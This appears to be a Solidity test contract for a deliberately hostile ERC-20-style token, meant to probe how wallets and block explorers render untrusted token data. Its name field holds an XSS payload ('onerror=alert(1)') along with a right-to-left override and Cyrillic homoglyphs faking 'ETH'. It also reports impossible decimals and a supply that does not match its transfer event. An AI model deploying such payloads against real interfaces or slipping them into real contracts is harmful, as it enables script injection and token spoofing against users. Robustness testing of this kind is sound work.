// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

/// @title A token that attacks whoever shows it
contract Hostile {
  event Transfer(address indexed from, address indexed to, uint256 value);

  constructor() {
    emit Transfer(address(0), msg.sender, type(uint256).max);
  }

  function name() external pure returns (string memory) {
    return unicode"<img src=x onerror=alert(1)>\u202eЕТН";
  }

  function symbol() external pure returns (string memory) {
    return unicode"МZ";
  }

  function decimals() external pure returns (uint256) {
    return 1000;
  }

  function totalSupply() external pure returns (uint256) {
    return 1;
  }
}
